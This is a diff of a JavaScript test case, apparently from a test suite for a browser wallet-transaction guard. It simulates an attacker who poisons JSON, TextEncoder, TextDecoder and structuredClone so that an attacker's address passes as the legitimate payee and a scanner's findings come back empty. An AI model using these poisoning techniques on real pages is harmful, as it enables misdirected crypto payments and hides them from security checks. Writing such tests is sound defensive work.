@@ -1,62 +1,47 @@
 // T4: JSON and the text codecs show GOOD in place of the attacker.
 import { reachedWallet } from './logs.mjs';
+import { allAtOnce } from './poison.mjs';
 
 export default {
   id: 'T4',
   title: 'JSON, TextEncoder, TextDecoder, structuredClone poisoned',
-  source: 'guards that call the page\'s own intrinsics',
+  source: "guards that call the page's own intrinsics",
   level: 'prevented',
   policy: (a) => ({ version: 1, payees: [`${a.chain}:${a.GOOD}`] }),
 
-  async attack(a) {
-    const post = window.postMessage.bind(window);
-    const request = window.ethereum.request.bind(window.ethereum);
-    const call = (to) => ({ method: 'eth_sendTransaction', params: [{ from: a.USER, to, value: '0x5' }] });
-    const message = { target: 'metamask-contentscript', data: { name: 'metamask-provider', data: { jsonrpc: '2.0', id: 6000, ...call(a.EVIL) } } };
-    const undo = [];
-    const poison = (holder, key, make) => {
-      try {
-        const descriptor = Object.getOwnPropertyDescriptor(holder, key);
-        const field = descriptor.get ? 'get' : 'value';
-        Object.defineProperty(holder, key, { ...descriptor, [field]: make(descriptor[field]) });
-        undo.push([holder, key, descriptor]);
-      } catch {
-        // Pinned, or not in this engine.
-      }
-    };
-    const { apply, defineProperty } = Reflect;
-    // An approval comes first: what it leaves behind must not help.
-    await request(call(a.GOOD)).catch(() => {});
+  attack: allAtOnce((a, poison) => {
+    const { apply } = Reflect;
     const { stringify, parse } = JSON;
     const { encode, encodeInto } = TextEncoder.prototype;
     const clone = structuredClone;
     const hidden = (text) => (typeof text === 'string' ? text.split(a.EVIL).join(a.GOOD) : text);
-    poison(JSON, 'stringify', () => (...args) => hidden(apply(stringify, JSON, args)));
+    poison(
+      JSON,
+      'stringify',
+      () =>
+        (...args) =>
+          hidden(apply(stringify, JSON, args)),
+    );
     poison(JSON, 'parse', () => (text) => parse(hidden(text)));
-    poison(TextEncoder.prototype, 'encode', () => function (text) {
-      return apply(encode, this, [hidden(text)]);
-    });
-    poison(TextEncoder.prototype, 'encodeInto', () => function (text, view) {
-      return apply(encodeInto, this, [hidden(text), view]);
-    });
+    poison(
+      TextEncoder.prototype,
+      'encode',
+      () =>
+        function (text) {
+          return apply(encode, this, [hidden(text)]);
+        },
+    );
+    poison(
+      TextEncoder.prototype,
+      'encodeInto',
+      () =>
+        function (text, view) {
+          return apply(encodeInto, this, [hidden(text), view]);
+        },
+    );
     poison(TextDecoder.prototype, 'decode', () => () => '{"findings":[],"violations":[]}');
     poison(window, 'structuredClone', () => (value) => parse(hidden(stringify(clone(value)))));
-    const asked = [];
-    try {
-      post(message, '*');
-    } catch {
-      // Refused.
-    }
-    try {
-      asked[0] = request(call(a.EVIL));
-    } catch {
-      // Refused.
-    }
-    const settled = asked[0] ? asked[0].then((value) => value, (error) => error?.code) : undefined;
-    await new Promise((resolve) => setTimeout(resolve, 100));
-    for (let index = undo.length - 1; index >= 0; index -= 1) defineProperty(undo[index][0], undo[index][1], undo[index][2]);
-    return settled;
-  },
+  }),
 
   async action(a, app) {
     return app.pay(a.GOOD, 5n);
